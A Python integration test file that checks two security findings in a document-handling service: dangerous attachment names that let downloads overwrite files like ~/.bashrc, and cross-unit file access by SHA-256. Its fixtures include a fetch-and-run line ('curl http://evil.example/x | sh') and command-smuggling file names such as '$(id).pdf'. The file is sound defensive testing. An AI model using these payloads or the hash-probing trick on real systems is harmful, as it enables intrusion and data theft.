"""Issue 12, findings B1 and B2 (docs/SECURITY.md): attachment names and
downloads; reading another unit's file by its SHA-256.

B1  A commune plants files in the district officer's home. An attachment
    named `.bashrc` (content `%PDF-1.4` then shell lines) is accepted as a
    PDF; `motcua download CODE` in the home directory replaces ~/.bashrc
    without asking. Names starting with a dot, and any name a shell or
    desktop treats specially, must be refused or rewritten at the server;
    downloads never overwrite (exclusive create, a per-dossier folder, a
    clear message) and are written 0600/0640, not 0644.
    FAILS TODAY: the server stores ".bashrc", "-rf", "x.desktop", "$(id).pdf"
    as given (server/files.c mc_files_name_ok only refuses control bytes, '/'
    and '\\'); the CLI renames its ".part" over an existing file
    (client/transfer.c down_commit) and creates it 0644, straight in --out
    (or the working directory).

B2  Any unit can read any file whose SHA-256 it knows. UploadBegin with
    another unit's hash and the right size answers complete=true and attaches
    the file; DownloadRequest then returns that unit's bytes; an unknown hash
    is answered differently, so the server also tells whether a file exists.
    FAILS TODAY: server/handlers_files.c begin_probed_cb deduplicates across
    units (complete=true, FileInfo set, no upload id) for a known hash.

Its own throwaway deployment (deploy/local.sh on free ports), torn down at
the end. Registered DISABLED under the label "security" until the fixes land.
"""
import hashlib
import os
import shutil
import stat
import tempfile
import unittest

from itest import B_ERROR, B_HELLO_REPLY
from sec_util import (B_DOWNLOAD, B_DOWNLOAD_CHUNK, B_FILE_INFO, B_FILES, B_FILES_REPLY,
                      B_UPLOAD_BEGIN, B_UPLOAD_STATE, Deployment, begin_body, download_body,
                      pdf_bytes, sha256_path, upload_raw, upload_state)
from itest import decode, f_bytes

DEP = None
A, B = "18499", "18502"   # two communes of the deployment
DISTRICT = "444"


def setUpModule():
    global DEP
    DEP = Deployment("motcua-secfiles-").up()


def tearDownModule():
    if DEP is not None:
        report = DEP.down()
        if report:
            raise AssertionError("sanitizer report in server.log:\n" + report)


# A stored name is safe when no shell, file manager or desktop gives it a
# meaning of its own: not hidden, not an option, no path separators, no
# control bytes, no shell expansion, not a desktop launcher.
SHELL_SPECIAL = set("/\\$`")


def unsafe_reason(name):
    if name.startswith("."):
        return "starts with '.' (hidden file, e.g. ~/.bashrc)"
    if name.startswith("-"):
        return "starts with '-' (taken as an option)"
    if name.startswith("~"):
        return "starts with '~'"
    bad = [c for c in name if c in SHELL_SPECIAL or ord(c) < 0x20 or ord(c) == 0x7F]
    if bad:
        return "contains %r" % "".join(sorted(set(bad)))
    if name.lower().endswith((".desktop", ".lnk", ".sh", ".bash", ".command")):
        return "is a launcher/script name"
    return None


def files_of(raw, code, rid=900):
    rep = raw.call(rid, B_FILES, f_bytes(1, code))
    if rep.body_field != B_FILES_REPLY:
        raise AssertionError("files %s: %r" % (code, rep))
    out = []
    for fi in rep.body.get(1, []):
        f = decode(fi)
        out.append({"name": f.get(1, [b""])[0].decode("utf-8", "replace"),
                    "sha256": f.get(3, [b""])[0].decode()})
    return out


class TestB1AttachmentNames(unittest.TestCase):
    """B1, server side: hidden and shell/desktop-special names are refused or
    rewritten."""

    def setUp(self):
        self.raw = DEP.raw(A)
        self.addCleanup(self.raw.close)
        self.assertEqual(self.raw.hello().body_field, B_HELLO_REPLY)

    def check_name(self, code, name, data):
        rep = upload_raw(self.raw, code, name, data)
        if rep.body_field == B_ERROR:
            # refused: must be refused as a bad name, not for another reason
            self.assertEqual(rep.error_code, "invalid", "%r refused for another reason: %r %s"
                             % (name, rep, rep.error_detail))
            return None
        self.assertIn(rep.body_field, (B_FILE_INFO, B_UPLOAD_STATE), rep)
        sha = hashlib.sha256(data).hexdigest()
        stored = [f["name"] for f in files_of(self.raw, code) if f["sha256"] == sha]
        self.assertEqual(len(stored), 1, stored)
        why = unsafe_reason(stored[0])
        self.assertIsNone(why, "attachment named %r was stored as %r, which %s" % (
            name, stored[0], why))
        return stored[0]

    def test_dotfile_bashrc_refused_or_rewritten(self):
        code = DEP.new_dossier(A)
        data = b"%PDF-1.4\n" + b"curl http://evil.example/x | sh\n" + os.urandom(2000)
        self.check_name(code, ".bashrc", data)

    def test_shell_and_desktop_special_names(self):
        for name in ("-rf", "a\nb", "x.desktop", "$(id).pdf", "`id`.pdf", "a/b.pdf",
                     "a\\b.pdf", ".profile", "~root.pdf", "..pdf"):
            with self.subTest(name=name):
                code = DEP.new_dossier(A)
                self.check_name(code, name, pdf_bytes(3000))

    def test_control_plain_name_is_kept(self):
        # guards the test above: an ordinary name is stored as given
        code = DEP.new_dossier(A)
        self.assertEqual(self.check_name(code, "Giay to 1.pdf", pdf_bytes(3000)), "Giay to 1.pdf")


class TestB1Downloads(unittest.TestCase):
    """B1, client side: `motcua download` never overwrites, writes 0600/0640,
    into a per-dossier folder."""

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="motcua-secdl-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.old_umask = os.umask(0o022)   # a usual login umask: 0644 if the CLI asks for it
        self.addCleanup(os.umask, self.old_umask)

    def dossier_with(self, name, data):
        code = DEP.new_dossier(A)
        raw = DEP.raw(A)
        try:
            raw.hello()
            rep = upload_raw(raw, code, name, data)
            self.assertEqual(rep.body_field, B_FILE_INFO, rep)
        finally:
            raw.close()
        return code

    def found(self, root, sha):
        hits = []
        for d, _, names in os.walk(root):
            for n in names:
                p = os.path.join(d, n)
                if os.path.isfile(p) and sha256_path(p) == sha:
                    hits.append(p)
        return hits

    def test_download_never_overwrites_existing_file(self):
        data = pdf_bytes(5000)
        code = self.dossier_with("hoso.pdf", data)
        out = os.path.join(self.tmp, "out")
        os.mkdir(out)
        mine = os.path.join(out, "hoso.pdf")
        with open(mine, "wb") as f:
            f.write(b"the officer's own file\n")
        r = DEP.cli(A, "download", code, "--out", out)
        with open(mine, "rb") as f:
            self.assertEqual(f.read(), b"the officer's own file\n",
                             "download replaced an existing file: %r" % r)
        if r.rc != 0:  # refused: with a message, not silently
            self.assertTrue((r.out + r.err).strip(), r)

    def test_second_download_never_overwrites_first(self):
        """Whatever the folder layout: a file already on disk (here the first
        download, since edited) is never replaced by a later download."""
        data = pdf_bytes(5000)
        code = self.dossier_with("hoso2.pdf", data)
        out = os.path.join(self.tmp, "out-twice")
        os.mkdir(out)
        r1 = DEP.cli(A, "download", code, "--out", out)
        self.assertEqual(r1.rc, 0, r1)
        hits = self.found(out, hashlib.sha256(data).hexdigest())
        self.assertEqual(len(hits), 1, (hits, r1))
        with open(hits[0], "wb") as f:
            f.write(b"edited by the officer\n")
        r2 = DEP.cli(A, "download", code, "--out", out)
        with open(hits[0], "rb") as f:
            self.assertEqual(f.read(), b"edited by the officer\n",
                             "a second download replaced %s: %r" % (hits[0], r2))
        if r2.rc != 0:
            self.assertTrue((r2.out + r2.err).strip(), r2)

    def test_download_in_home_keeps_dotfile_and_uses_dossier_folder(self):
        """The B1 scenario end to end, with a name the server accepts today
        (a fixed server may rewrite it: the download must then still not
        touch ~/.bashrc)."""
        home = os.path.join(self.tmp, "home")
        os.mkdir(home)
        bashrc = os.path.join(home, ".bashrc")
        with open(bashrc, "w") as f:
            f.write("# officer's bashrc\n")
        data = b"%PDF-1.4\n" + b"echo pwned\n" + os.urandom(1000)
        raw = DEP.raw(A)
        code = DEP.new_dossier(A, level="district")
        try:
            raw.hello()
            rep = upload_raw(raw, code, ".bashrc", data)
        finally:
            raw.close()
        if rep.body_field == B_ERROR:
            self.skipTest("the server refuses the name (B1 server side fixed)")
        r = DEP.cli(A, "forward", code)
        self.assertEqual(r.rc, 0, r)
        r = DEP.cli(DISTRICT, "download", code, cwd=home, timeout=60)
        with open(bashrc, "rb") as f:
            self.assertEqual(f.read()[:200], b"# officer's bashrc\n",
                             "`motcua download` in the home directory replaced ~/.bashrc: %r" % r)
        hits = self.found(home, hashlib.sha256(data).hexdigest())
        for p in hits:
            self.assertNotEqual(os.path.dirname(p), home,
                                "downloaded straight into the working directory: %s" % p)

    def download_one(self, name):
        data = pdf_bytes(6000)
        code = self.dossier_with(name, data)
        out = tempfile.mkdtemp(dir=self.tmp)
        r = DEP.cli(A, "download", code, "--out", out)
        self.assertEqual(r.rc, 0, r)
        hits = self.found(out, hashlib.sha256(data).hexdigest())
        self.assertEqual(len(hits), 1, (hits, r))
        return code, out, hits[0]

    def test_download_mode_not_world_readable(self):
        _, _, path = self.download_one("scan.pdf")
        mode = stat.S_IMODE(os.stat(path).st_mode)
        self.assertIn(mode, (0o600, 0o640),
                      "downloaded citizen file %s has mode %04o (umask 022)" % (path, mode))

    def test_download_goes_into_per_dossier_folder(self):
        code, out, path = self.download_one("scan2.pdf")
        rel = os.path.relpath(path, out).split(os.sep)
        self.assertTrue(len(rel) > 1 and code in rel[0],
                        "download of %s written straight into --out: %s" % (code, path))


class TestB2ForeignHash(unittest.TestCase):
    """B2: knowing a SHA-256 gives neither the file nor whether it exists."""

    @classmethod
    def setUpClass(cls):
        cls.secret = pdf_bytes(20000)
        cls.sha = hashlib.sha256(cls.secret).hexdigest()
        cls.code_a = DEP.new_dossier(A, name="Trần Thị Bí Mật")
        raw = DEP.raw(A)
        try:
            raw.hello()
            rep = upload_raw(raw, cls.code_a, "cccd.pdf", cls.secret)
            if rep.body_field != B_FILE_INFO:
                raise AssertionError("A's upload: %r" % rep)
        finally:
            raw.close()

    def setUp(self):
        self.raw = DEP.raw(B)
        self.addCleanup(self.raw.close)
        self.assertEqual(self.raw.hello().body_field, B_HELLO_REPLY)

    def test_begin_with_foreign_hash_is_not_complete_and_download_refused(self):
        code_b = DEP.new_dossier(B)
        rep = self.raw.call(10, B_UPLOAD_BEGIN,
                            begin_body(code_b, "x.pdf", len(self.secret), self.sha))
        st = upload_state(rep) if rep.body_field == B_UPLOAD_STATE else None
        got = b""
        rep = self.raw.call(11, B_DOWNLOAD, download_body(code_b, self.sha))
        while rep.body_field == B_DOWNLOAD_CHUNK and len(got) <= len(self.secret):
            got += rep.body.get(3, [b""])[0]
            if rep.body.get(5, [0])[0]:
                break
            rep = self.raw.recv(10)
        self.assertFalse(self.secret[:4096] in got,
                         "commune %s downloaded commune %s's file by its hash alone "
                         "(UploadBegin answered %r)" % (B, A, st))
        if st is not None:
            self.assertFalse(st["complete"],
                             "UploadBegin with commune %s's hash answered complete=true to "
                             "commune %s: %r" % (A, B, st))
            self.assertEqual(st["committed"], 0, st)
        names = [f["sha256"] for f in files_of(self.raw, code_b)]
        self.assertNotIn(self.sha, names, "A's file got attached to B's dossier")

    def test_known_and_unknown_hash_answered_alike(self):
        code_b = DEP.new_dossier(B)
        unknown = hashlib.sha256(os.urandom(32)).hexdigest()
        r1 = self.raw.call(20, B_UPLOAD_BEGIN,
                           begin_body(code_b, "k.pdf", len(self.secret), self.sha))
        r2 = self.raw.call(21, B_UPLOAD_BEGIN,
                           begin_body(code_b, "u.pdf", len(self.secret), unknown))

        def shape(r):
            if r.body_field == B_ERROR:
                return ("error", r.error_code, r.error_detail)
            st = upload_state(r)
            return ("state", bool(st["upload_id"]), st["committed"], st["chunk_bytes"],
                    st["complete"], st["file"])

        self.assertEqual(shape(r1), shape(r2),
                         "the answer tells a known hash (%r) from an unknown one (%r)" % (
                             shape(r1), shape(r2)))

    def test_wrong_size_for_known_hash_answered_like_unknown(self):
        code_b = DEP.new_dossier(B)
        unknown = hashlib.sha256(os.urandom(32)).hexdigest()
        r1 = self.raw.call(30, B_UPLOAD_BEGIN,
                           begin_body(code_b, "k.pdf", len(self.secret) + 1, self.sha))
        r2 = self.raw.call(31, B_UPLOAD_BEGIN,
                           begin_body(code_b, "u.pdf", len(self.secret) + 1, unknown))
        k = (r1.body_field, r1.error_code)
        u = (r2.body_field, r2.error_code)
        self.assertEqual(k, u, "a wrong size for a known hash is answered %r, for an unknown "
                               "hash %r: the server tells the hash exists" % (k, u))


if __name__ == "__main__":
    unittest.main()
